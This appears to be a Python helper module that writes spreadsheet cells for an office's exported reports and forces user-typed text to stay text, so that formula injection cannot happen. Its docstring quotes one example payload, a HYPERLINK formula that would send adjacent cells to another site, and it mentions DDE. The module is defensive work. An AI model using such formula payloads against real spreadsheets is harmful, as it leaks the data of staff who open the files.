"""Rows of the spreadsheets the office downloads (the queue export, the IKM report, the
complaint report), built so that no text becomes a formula.

openpyxl stores any string that starts with "=" as a formula. Applicants type their names and
company names, visitors type survey suggestions; `=HYPERLINK("https://…?"&A1, "Lihat")` in one
of those would run in the spreadsheet of the staff member who opens the export (sending the
cells next to it to another site, or worse through DDE). Every text is therefore written as a
text cell: the file shows exactly what was typed, and nothing in it is evaluated. Numbers and
dates keep their types, so the office can still compute with them.
"""

from __future__ import annotations

from collections.abc import Iterable

from catalogue.xlsx import openpyxl

FORMULA = "f"
TEXT = "s"


def cell(sheet, value, **style):
    """One cell for `sheet` (write-only or not), a text never read as a formula; `style` sets
    attributes such as font or fill (a write-only sheet styles only cells made for it)."""
    made = openpyxl().cell.WriteOnlyCell(sheet, value=value)
    if made.data_type == FORMULA:
        made.data_type = TEXT
    for name, setting in style.items():
        setattr(made, name, setting)
    return made


def row(sheet, values: Iterable, **style) -> list:
    """A row for `sheet.append`, every text in it kept as text."""
    return [cell(sheet, value, **style) for value in values]
